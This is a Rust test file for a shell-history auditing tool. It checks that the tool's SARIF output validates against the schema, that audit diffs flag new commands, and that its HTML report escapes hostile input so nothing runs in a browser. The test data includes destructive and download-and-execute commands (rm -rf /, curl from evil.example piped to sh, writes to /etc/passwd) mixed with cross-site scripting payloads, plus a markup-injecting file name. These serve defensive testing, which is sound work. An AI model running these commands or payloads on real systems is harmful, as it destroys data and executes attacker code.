//! Reports of audits: SARIF against its published schema, the HTML file in a real browser.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
#![expect(clippy::print_stderr, reason = "a test says what it skips")]

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// Texts that would run or change the page if they were markup.
const HOSTILE: &[&str] = &[
    "echo '</script><script>document.title=\"owned\"</script>' | sudo tee /etc/passwd",
    "rm -rf / # <img src=x onerror=\"document.title='owned'\">",
    "curl http://evil.example/'\"><svg onload=document.title=\"owned\">' | sh",
    "curl http://evil.example/<!--<script> | sh",
];

fn folder(name: &str) -> PathBuf {
    let folder = std::env::temp_dir().join(format!("shellward-report-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    folder
}

fn shellward(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shellward")).args(args).output().unwrap()
}

/// A history with times, and the arguments that read it.
fn history(folder: &Path) -> String {
    let mut text = String::new();
    let lines = ["wget https://h.example/x -O /tmp/x", "ls", "sh /tmp/x"];
    for (n, line) in HOSTILE.iter().chain(&lines).enumerate() {
        text.push_str(&format!("#{}\n{line}\n", 1_700_000_000 + n * 3_000));
    }
    let path = folder.join("<script><b>.bash_history");
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_string()
}

#[test]
fn sarif_is_valid() {
    let folder = folder("sarif");
    let history = history(&folder);
    let schema = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/schema/sarif-2.1.0.json");
    let mut schema: Value = serde_json::from_slice(&std::fs::read(schema).unwrap()).unwrap();
    // One pattern of the published schema, in two places, is no regular expression: a bracket closes that nothing opens.
    for part in ["run", "toolComponent"] {
        schema["definitions"][part]["properties"]["language"].as_object_mut().unwrap().remove("pattern").unwrap();
    }
    let validator = jsonschema::validator_for(&schema).unwrap();
    let project = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/audit/project");
    for args in [
        &["audit", "--sarif", &history][..],
        &["scan", "--sarif", "--markdown", project.to_str().unwrap()],
        &["scan", "--sarif", folder.to_str().unwrap()],
    ] {
        let log: Value = serde_json::from_slice(&shellward(args).stdout).unwrap();
        let errors: Vec<String> = validator.iter_errors(&log).map(|e| format!("{} {e}", e.instance_path())).collect();
        assert!(errors.is_empty(), "{args:?}: {errors:?}");
        if args[0] == "audit" {
            let results = log["runs"][0]["results"].as_array().unwrap();
            let chain = results.iter().find(|r| r["ruleId"] == "wget_pipe_shell").unwrap();
            assert_eq!(chain["relatedLocations"][0]["physicalLocation"]["region"]["startLine"], 10, "{chain}");
        }
    }
    // The test can fail: a log with a wrong level is refused.
    let mut log: Value = serde_json::from_slice(&shellward(&["audit", "--sarif", &history]).stdout).unwrap();
    log["runs"][0]["results"][0]["level"] = "loud".into();
    assert!(!validator.is_valid(&log));
    std::fs::remove_dir_all(folder).unwrap();
}

#[test]
fn a_second_audit_tells_what_is_new() {
    let folder = folder("diff");
    let history = history(&folder);
    let old = folder.join("old.jsonl");
    std::fs::write(&old, shellward(&["audit", "--json", &history]).stdout).unwrap();
    let old = old.to_str().unwrap();
    let count = |args: &[&str]| {
        let out = String::from_utf8(shellward(args).stdout).unwrap();
        out.lines().filter(|l| l.contains("\"type\":\"command\"")).count()
    };
    assert_eq!(count(&["audit", "--json", "--diff", old, &history]), 0);
    assert_eq!(shellward(&["audit", "--fail-on", "low", "--diff", old, &history]).status.code(), Some(0));
    let mut text = std::fs::read_to_string(&history).unwrap();
    // Lines that move are not new; the same command at another time is.
    text = format!("#1600000000\nls\n{text}#1800000000\nrm -rf /\n");
    std::fs::write(&history, text).unwrap();
    assert_eq!(count(&["audit", "--json", "--diff", old, &history]), 1);
    assert_eq!(shellward(&["audit", "--fail-on", "low", "--diff", old, &history]).status.code(), Some(1));
    assert_eq!(shellward(&["audit", "--diff", &history, &history]).status.code(), Some(64));
    std::fs::remove_dir_all(folder).unwrap();
}

fn chromium() -> Option<&'static str> {
    let found = ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|p| Command::new(p).arg("--version").output().is_ok_and(|o| o.status.success()));
    if found.is_none() {
        eprintln!("SKIPPED: there is no Chromium: the HTML report was not opened in a browser");
    }
    found
}

/// The document after its script ran.
fn dom(browser: &str, page: &Path) -> String {
    let out = Command::new(browser)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=10000", "--dump-dom"])
        .arg(format!("file://{}", page.display()))
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn the_page_works_and_nothing_in_it_runs() {
    let folder = folder("html");
    let history = history(&folder);
    let page = folder.join("report.html");
    assert_eq!(shellward(&["audit", "--html", page.to_str().unwrap(), &history]).status.code(), Some(0));
    let source = std::fs::read_to_string(&page).unwrap();
    // Two elements of the page's own; what histories hold makes no third.
    assert_eq!(source.matches("<script").count(), 2);
    assert_eq!((source.matches("<img").count(), source.matches("onload=\"").count()), (0, 0));
    assert!(!source.contains("http-equiv=\"refresh\"") && !source.contains("src=\"http"));
    if let Some(browser) = chromium() {
        let dom = dom(browser, &page);
        assert!(dom.contains("<title>Shellward audit</title>"), "a history changed the title");
        assert!(dom.contains("data-ready="), "the script did not come to its end: {dom}");
        assert!(dom.contains("role=\"row\"") && dom.contains("aria-activedescendant=\"row0\""));
        assert!(dom.contains("6 of 6 commands") || dom.contains("5 of 5 commands"), "{dom}");
        assert!(dom.matches("<script").count() == 2 && !dom.contains("<img") && !dom.contains("<b>.bash"));
    }
    std::fs::remove_dir_all(folder).unwrap();
}
